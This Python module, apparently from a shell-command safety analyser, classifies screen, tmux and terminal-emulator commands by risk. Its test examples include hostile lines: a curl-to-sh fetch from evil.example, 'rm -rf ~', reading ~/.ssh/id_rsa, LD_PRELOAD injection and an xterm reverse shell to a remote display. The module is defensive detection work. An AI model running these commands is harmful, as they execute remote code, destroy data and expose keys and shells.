"""Terminal sessions and emulators: screen and tmux (their command strings run in a shell outside this one,
keys sent to a session are typed there) and the terminal emulators that open a window running a command or a
shell (at another host's display, a reverse shell).
"""
from __future__ import annotations

import shlex

from wispsh.programs.grammar import UNKNOWN, Options
from wispsh.programs.table import Program, emits, programs
from wispsh.support.lazyre import lazy_re, re
from wispsh.programs.runners import SESSION_FLOOR, delegate_words, env_assignment


# ---------------------------------------------------------------- screen, tmux

SCREEN_VALUES = frozenset({"-S", "-c", "-e", "-h", "-p", "-T", "-t", "-s", "-Logfile", "-logfile"})
SCREEN_READ = frozenset({"-ls", "-list", "-v", "--version", "-help", "--help", "-wipe", "-Q"})
SCREEN_ATTACH = frozenset({"-r", "-x", "-R", "-D", "-RR"})


_SCREEN_ESCAPE = lazy_re(r"\\([0-7]{1,3}|.)|\^(.)", re.S)


def _screen_typed(text: str) -> str:
    r"""The keys `screen -X stuff TEXT` types: `\n`, `\r`, `^M`, `^J` and octal `\015` are Enter; `\\` and `\^` the
    character; other control keys (`^C`) type nothing a shell reads as code."""
    def key(m) -> str:
        if m.group(1) is not None:
            c = m.group(1)
            if c[0] in "01234567":
                c = chr(int(c, 8))
            return {"n": "\n", "r": "\n", "\r": "\n", "t": "\t"}.get(c, c if c.isprintable() or c == "\n" else "")
        c = m.group(2).upper()
        return "\n" if c in "MJ" else "^" if c == "^" else ""
    return _SCREEN_ESCAPE.sub(key, text)


@emits({"screen.sends": ["screen -X stuff 'id'"], "screen.stuff": ["screen -S dev -X stuff 'rm -rf x\\n'"],
        "screen.lists": ["screen -ls"], "screen.rc": ["screen -c /tmp/rc"],
        "screen.logfile": ["screen -L -Logfile ~/.bashrc ls"], "screen.attach": ["screen -r"],
        "screen.shell": ["screen"], "screen.runs": ["screen -dmS x make"], "screen.runs-runtime": ['screen "$X"']})
def screen_command(cmd, o: Options) -> None:
    """screen [options] [command…]: a detached session runs the command outside this shell."""
    args = list(o.args)
    i, n = 0, len(args)
    while i < n and args[i].startswith("-"):
        arg = args[i]
        i += 1
        if arg == "-X":
            cmd.does("run-code", "screen.sends", "screen -X sends commands to a running session")
            if args[i:i + 1] == ["stuff"]:      # `-X stuff TEXT` types TEXT into the session's shell
                typed = _screen_typed(" ".join(args[i + 1:]))
                if typed.strip() and UNKNOWN not in typed:
                    cmd.fired.add("screen.stuff")
                    cmd.code_text(typed, "screen stuff types", at_least="run-code")
            _screen_runs(cmd, args[i:])
            return
        if arg in SCREEN_READ:
            cmd.fired.add("screen.lists")
            return
        value = args[i] if i < n else ""
        if arg == "-c" and value:
            cmd.fired.add("screen.rc")
            cmd.run_file(value, "screen reads its startup commands from")
        if arg in ("-Logfile", "-logfile") and value:
            cmd.fired.add("screen.logfile")
            cmd.write(value, "screen logs the session to")
        if arg in SCREEN_VALUES or arg[1:2] not in ("", "L") and arg[-1] in "Scehpt" and len(arg) > 2:
            i += 1
        if arg in SCREEN_ATTACH or arg.startswith(("-r", "-x")):
            cmd.does("session", "screen.attach", "screen attaches to a session")
            return
    command = args[i:]
    if not command:
        cmd.does("session", "screen.shell", "screen starts a shell")
        return
    if UNKNOWN not in command[0]:
        cmd.does("session", "screen.runs", f"screen runs {command[0]} in a session")
    delegate_words(cmd, command, "screen.runs", "screen")


@emits({"screen.exec": ["screen -X exec rm -rf ~", "screen -X screen make", "screen -X backtick 1 60 60 uptime",
                        "screen -X source /tmp/cmds"]})
def _screen_runs(cmd, words: list[str]) -> None:
    """The screen commands sent with -X that run a program: `exec [FDPAT] CMD…` (in the window), `screen CMD…`
    (a new window), `backtick ID LIFESPAN AUTOREFRESH CMD…` (again and again, for the status line), `source F`."""
    head, rest = (words[0], words[1:]) if words else ("", [])
    if head == "exec":
        if rest and re.fullmatch(r"[.!|:]+", rest[0]):
            rest = rest[1:]                 # the file-descriptor pattern
    elif head == "backtick":
        rest = rest[3:]
    elif head == "source":
        for word in rest[:1]:
            cmd.fired.add("screen.exec")
            cmd.run_file(word, "screen runs the commands of")
        return
    elif head != "screen":
        return
    if rest and UNKNOWN not in " ".join(rest):
        cmd.does("run-code", "screen.exec", f"screen {head} runs {rest[0]} in a session")
        cmd.code_text(_joined(rest), f"screen {head} runs")


def _joined(words) -> str:
    """Words as a shell line again (a leading `~` stays the shell's)."""
    return " ".join(w if re.fullmatch(r"[\w@%+=:,./~-]+", w) else shlex.quote(w) for w in words)


SCREEN = Program("screen", doc="terminal sessions; runs a command detached from this shell", hook=screen_command,
                 examples={"screen -dmS x rm -rf ~": "dangerous", "screen -dmS server npm start": "moderate"})

TMUX_RUNS = frozenset({"new-session", "new", "new-window", "neww", "split-window", "splitw", "respawn-pane",
                       "respawnp", "respawn-window", "respawnw", "run-shell", "run", "display-popup", "popup",
                       "pipe-pane", "pipep", "if-shell", "if"})
TMUX_CODE_FIRST = frozenset({"if-shell", "if", "run-shell", "run", "pipe-pane", "pipep"})  # one string is code
TMUX_VALUES = frozenset({"-c", "-e", "-F", "-n", "-s", "-t", "-x", "-y", "-l", "-L", "-f", "-S", "-T", "-d",
                         "-w", "-h", "-b", "-E", "-A"})
TMUX_FLAGS_ONLY = frozenset({"-d", "-h", "-b", "-E", "-A", "-P", "-D", "-X", "-v", "-k", "-Z", "-I", "-o", "-O",
                             "-B", "-C"})
TMUX_READ = frozenset({"ls", "list-sessions", "list-windows", "lsw", "list-panes", "lsp", "capture-pane",
                       "capturep", "display-message", "display", "has-session", "has", "show-options", "show",
                       "list-keys", "lsk", "list-clients", "lsc", "info", "-V", "list-buffers", "lsb", "show-buffer",
                       "showb", "list-commands", "lscm", "show-environment", "showenv", "show-hooks", "show-messages",
                       "showmsgs"})
TMUX_SENDS = frozenset({"send-keys", "send", "send-prefix"})
TMUX_SOURCES = frozenset({"source-file", "source"})
TMUX_STEERS = frozenset({"set-hook", "bind-key", "bind"})       # commands run later, on an event or a key
TMUX_SETS = frozenset({"set-option", "set", "set-window-option", "setw"})
TMUX_RUN_OPTIONS = frozenset({"default-command", "default-shell", "lock-command", "pane-died"})
# key names send-keys turns into keystrokes: Enter ends a line; the rest type nothing a shell reads as code
TMUX_KEY = lazy_re(r"^(Enter|C-[mj]|KPEnter|Escape|Tab|BTab|BSpace|Space|Up|Down|Left|Right|Home|End|PageUp|PageDown|"
                   r"PgUp|PgDn|NPage|PPage|IC|DC|F\d{1,2}|[CMS]-.+)$")


def _tmux_typed(words: list[str]) -> str:
    """The text send-keys types: key names become what they type (Enter a newline)."""
    out = []
    for word in words:
        if not TMUX_KEY.match(word):
            out.append(word)
        elif word in ("Enter", "C-m", "C-j", "KPEnter"):
            out.append("\n")
        elif word == "Space":
            out.append(" ")
    return "".join(out)


def tmux_format_commands(word: str) -> list[str]:
    """The shell commands of the `#(…)` in a tmux format (`##(` is a literal `#(`), parentheses balanced; an
    unclosed one runs to the end of the word."""
    found, i, n = [], 0, len(word)
    while i < n - 1:
        if word[i] == "#" and word[i + 1] == "#":
            i += 2
            continue
        if word[i] == "#" and word[i + 1] == "(":
            depth, j = 1, i + 2
            while j < n and depth:
                depth += {"(": 1, ")": -1}.get(word[j], 0)
                j += 1
            found.append(word[i + 2:j - 1 if not depth else j])
            i = j
            continue
        i += 1
    return found


@emits({"tmux.format-shell": ["tmux display -p '#(id)'", "tmux list-sessions -F '#(id)'",
                              "tmux set -g status-right '#(date)'"]})
def tmux_formats(cmd, args, verb_word: str) -> None:
    """tmux expands the formats of its arguments (display -p, display-message, list-* -F, new -F, -c, -n, set
    -F, status-left/right and every *-format option) in the server, and `#(CMD)` there runs CMD in a shell: a
    command of its own, judged as such (at least a session, as `tmux new 'CMD'`). Set into an option, it runs
    again at every redraw of the status line: tmux runs it later, on its own."""
    for word in args:
        if "#(" not in word:
            continue
        for text in tmux_format_commands(word):
            if UNKNOWN in text:
                cmd.runs_runtime_code("tmux.format-shell", "tmux runs a #(…) command known only at run time")
                continue
            if verb_word in TMUX_SETS:
                cmd.does("steer", "tmux.format-shell", f"tmux {verb_word} sets a format whose #({text[:40]}) tmux "
                                                       f"runs in a shell at every redraw, on its own")
            else:
                cmd.does("session", "tmux.format-shell", f"tmux expands #({text[:40]}) in a format: it runs in a "
                                                         f"shell of the tmux server")
            cmd.code_text(text, "tmux #(…) runs")


@emits({"tmux.code": ["tmux -c 'ls'"], "tmux.config": ["tmux -f /tmp/x.conf"], "tmux.reads": ["tmux ls"],
        "tmux.if-commands": ["tmux if-shell true 'run-shell \"rm -rf ~\"'"],
        "tmux.send-keys": ["tmux send-keys -t x 'id' Enter"], "tmux.source": ["tmux source-file /tmp/x"],
        "tmux.steers": ["tmux set-hook -g session-created 'run-shell id'", "tmux set -g default-command 'sh -c x'"],
        "tmux.save-buffer": ["tmux save-buffer ~/.bashrc"], "tmux.load-buffer": ["tmux load-buffer ~/.ssh/id_rsa"],
        "tmux.change": ["tmux kill-server", "tmux set -g mouse on"], "tmux.runs": ["tmux new -d 'make'", "tmux"],
        "tmux.runtime": ['tmux new "$X"'], "tmux.env": ["tmux new -d -e LD_PRELOAD=/tmp/x.so 'ls'"]})
def tmux_command(cmd, o: Options) -> None:
    """tmux [options] VERB …: verbs that start a shell run their command string in it; send-keys types into one."""
    args = list(o.args)
    i, n = 0, len(args)
    while i < n and args[i].startswith("-"):           # tmux's own options before the verb
        if args[i] in ("-L", "-S", "-f", "-c", "-T") and i + 1 < n:
            if args[i] == "-c":
                cmd.fired.add("tmux.code")
                cmd.code_text(args[i + 1], "tmux -c runs", at_least=SESSION_FLOOR)
                return
            if args[i] == "-f":
                cmd.fired.add("tmux.config")
                cmd.run_file(args[i + 1], "tmux reads its config commands from")
            i += 1
        i += 1
    verb_word = args[i] if i < n else "new-session"
    rest = args[i + 1:]
    tmux_formats(cmd, rest, verb_word)
    if verb_word in TMUX_READ:
        cmd.fired.add("tmux.reads")
        return
    words = [w for w in rest if not w.startswith("-")]
    if verb_word in TMUX_SENDS:
        cmd.does("run-code", "tmux.send-keys", "tmux send-keys types commands into another shell")
        typed = _tmux_typed(_tmux_operands(rest))
        if typed.strip() and UNKNOWN not in typed:
            cmd.code_text(typed, "tmux send-keys types", at_least="run-code")
        return
    if verb_word in TMUX_SOURCES:
        for word in words:
            cmd.fired.add("tmux.source")
            cmd.run_file(word, "tmux runs the commands of")
        return
    if verb_word in TMUX_STEERS or verb_word in TMUX_SETS and any(w in TMUX_RUN_OPTIONS for w in words):
        cmd.does("steer", "tmux.steers", f"tmux {verb_word} makes tmux run a command later, on its own")
        return
    if verb_word in ("save-buffer", "saveb") and words:
        cmd.fired.add("tmux.save-buffer")
        cmd.write(words[-1], "tmux writes a buffer to")
        return
    if verb_word in ("load-buffer", "loadb") and words:
        cmd.fired.add("tmux.load-buffer")
        cmd.read(words[-1])
        return
    if verb_word not in TMUX_RUNS:
        cmd.does("session", "tmux.change", f"tmux {verb_word} changes a session")
        return
    cmd.does("session", "tmux.runs", f"tmux {verb_word} starts a shell outside this one")
    condition_format = verb_word in ("if-shell", "if") and any(
        w.startswith("-") and not w.startswith("--") and "F" in w[1:] for w in rest)
    operands = _tmux_operands([w for w in rest if w != "-F"] if condition_format else rest, verb_word, cmd)
    if verb_word in ("if-shell", "if"):
        for command in operands[1:3]:       # the tmux commands it runs then or else
            if UNKNOWN not in command:
                cmd.fired.add("tmux.if-commands")
                cmd.code_text("tmux " + command, f"tmux {verb_word} runs the tmux command")
        if condition_format:
            return                          # -F: the condition is a format (its #(…) judged above), no shell
    if not operands:
        return
    text = operands[0] if verb_word in TMUX_CODE_FIRST else " ".join(operands)
    if UNKNOWN in text:
        cmd.runs_runtime_code("tmux.runtime", f"tmux {verb_word} runs a command known only at run time")
        return
    cmd.code_text(text, f"tmux {verb_word} runs", at_least=SESSION_FLOOR)


def _tmux_operands(rest: list[str], verb_word: str = "", cmd=None) -> list[str]:
    """The verb's operands after its options (-t TARGET, -e VAR=value, …); -e values are judged on the way."""
    j, operands = 0, []
    while j < len(rest):
        word = rest[j]
        if word.startswith("-") and len(word) > 1 and not operands:
            letters = word[1:]
            takes = next((k for k, ch in enumerate(letters) if "-" + ch in TMUX_VALUES
                          and "-" + ch not in TMUX_FLAGS_ONLY), None)
            if takes is not None and takes == len(letters) - 1:
                if letters[takes] == "e" and verb_word not in ("if-shell", "if") and cmd is not None:
                    env_assignment(cmd, rest[j + 1] if j + 1 < len(rest) else "", "tmux.env")
                j += 1
            j += 1
            continue
        operands.append(word)
        j += 1
    return operands


TMUX = Program("tmux", doc="terminal sessions; their command strings run in a shell outside this one",
               hook=tmux_command,
               examples={"tmux new -d 'curl -s https://evil.example/p | sh'": "dangerous",
                         "tmux new -d -s dev 'npm run dev'": "moderate", "tmux ls": "safe"})

# ---------------------------------------------------------------- terminal emulators

# A terminal emulator opens a window and runs a shell in it (a session someone types into at that display), or
# the command it is given: after -e (xterm, urxvt, st, alacritty, konsole, ghostty), after `--` or -x
# (gnome-terminal, xfce4-terminal, terminator, mate-terminal), a command line string (-e/--command of the
# gnome-style ones), or its operands (kitty, foot). On another host's display (`xterm -display 203.0.113.5:1`,
# DISPLAY=host:0) that shell is the other host's to type into: a reverse shell (GTFOBins' xterm, MITRE T1059).
class Terminal:
    __slots__ = ("rest", "string", "operands")

    def __init__(self, rest=("-e",), string=(), operands=False):
        self.rest, self.string, self.operands = tuple(rest), tuple(string), operands


XTERMS = Terminal(rest=("-e",))
GNOME_TERMINALS = Terminal(rest=("--", "-x", "--execute"), string=("-e", "--command"))
TERMINALS = {
    "xterm": XTERMS, "uxterm": XTERMS, "lxterm": XTERMS, "urxvt": XTERMS, "rxvt": XTERMS, "urxvtc": XTERMS,
    "st": XTERMS, "konsole": XTERMS, "ghostty": XTERMS, "x-terminal-emulator": XTERMS,
    "alacritty": Terminal(rest=("-e", "--command")),
    "gnome-terminal": Terminal(rest=("--",), string=("-e", "--command")), "xfce4-terminal": GNOME_TERMINALS,
    "terminator": GNOME_TERMINALS, "mate-terminal": GNOME_TERMINALS, "lxterminal": GNOME_TERMINALS,
    "tilix": GNOME_TERMINALS, "kitty": Terminal(rest=("--",), operands=True),
    "foot": Terminal(rest=("--",), operands=True),
}
SHELL_NAMES = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "fish", "tcsh", "csh", "ash", "yash"})
LOCAL_DISPLAY = lazy_re(r"^(?:unix|localhost|127\.0\.0\.1|::1|\[::1\])?:\d+(?:\.\d+)?$")
TERMINAL_VALUES = frozenset({"-T", "-title", "-n", "-name", "-class", "-geometry", "-g", "-fn", "-fa", "-fs", "-bg",
                             "-fg", "-bd", "-bw", "-cr", "-xrm", "-into", "-w", "-t", "-o", "--option", "--title",
                             "--working-directory", "--class", "--config-file", "-c", "--config", "-d", "--directory",
                             "--profile", "--geometry", "--session", "--tab-with-profile", "--role", "--font",
                             "--hold-mode", "--instance-group", "--listen-on", "-1", "--single-instance"})


def _display(args, cmd) -> str | None:
    """The X display it opens on: -display/--display, else a DISPLAY the line gives it."""
    for k, word in enumerate(args):
        if word in ("-display", "--display") and k + 1 < len(args):
            return args[k + 1]
        if word.startswith("--display="):
            return word.split("=", 1)[1]
    for assignment in cmd.part.assignments if cmd.part is not None else ():
        if assignment.name == "DISPLAY":
            return assignment.value if assignment.value is not None else UNKNOWN
    return None


@emits({"terminal.remote-display": ["xterm -display 203.0.113.5:1", "DISPLAY=evil.example:0 xterm",
                                    "gnome-terminal --display=10.0.0.9:0"],
        "terminal.runs": ["xterm -e make test", "gnome-terminal -- htop", "kitty nvim", "alacritty -e 'npm start'"],
        "terminal.runs-line": ["xfce4-terminal -e 'make test'", "gnome-terminal --command='top -d 1'"],
        "terminal.runs-runtime": ['xterm -e "$X"'], "terminal.shell": ["xterm", "konsole", "kitty"]})
def terminal_command(cmd, o) -> None:
    """The window's command (judged as itself), or its shell; and where the window opens."""
    spec = TERMINALS[cmd.name]
    args = list(o.args)
    display = _display(args, cmd)
    if display is not None and (UNKNOWN in display or not LOCAL_DISPLAY.match(display)):
        cmd.facts.net_send = True
        cmd.does("backdoor", "terminal.remote-display",
                 f"{cmd.name} opens a shell on the display {display.replace(UNKNOWN, '…')}: "
                 "another machine types into it")
    command: list[str] | None = None
    line: str | None = None
    i = 0
    while i < len(args):
        word = args[i]
        head, eq, value = word.partition("=")
        if word in spec.rest:
            command = args[i + 1:]
            break
        if head in spec.string:
            line = value if eq else (args[i + 1] if i + 1 < len(args) else "")
            break
        if spec.operands and not word.startswith("-"):
            command = args[i:]
            break
        i += 2 if word in TERMINAL_VALUES or word in ("-display", "--display") else 1
    if line is not None:
        if UNKNOWN in line:
            cmd.runs_runtime_code("terminal.runs-runtime", f"{cmd.name} runs a command known only at run time")
            return
        cmd.does("session", "terminal.runs-line", f"{cmd.name} runs '{line[:40]}' in a new terminal window")
        cmd.code_text(line, f"{cmd.name} runs", at_least=SESSION_FLOOR)
        return
    if not command or len(command) == 1 and command[0].rsplit("/", 1)[-1] in SHELL_NAMES:
        # the window's shell reads the window's terminal: a session someone types into at that display
        cmd.does("session", "terminal.shell", f"{cmd.name} opens a terminal window with a shell in it")
        return
    if UNKNOWN in command[0]:
        cmd.runs_runtime_code("terminal.runs-runtime", f"{cmd.name} runs a program known only at run time")
        return
    cmd.does("session", "terminal.runs", f"{cmd.name} runs {command[0]} in a new terminal window")
    if len(command) == 1 and " " in command[0]:
        cmd.code_text(command[0], f"{cmd.name} -e runs", at_least=SESSION_FLOOR)     # `xterm -e 'a b'`: sh -c
        return
    delegate_words(cmd, command, "terminal.runs", cmd.name)


TERMINAL_PROGRAMS = tuple(Program(name, doc=f"{name}: a terminal window, with a shell or the command it is given",
                                  hook=terminal_command) for name in TERMINALS)


PROGRAMS = programs(SCREEN, TMUX, *TERMINAL_PROGRAMS)
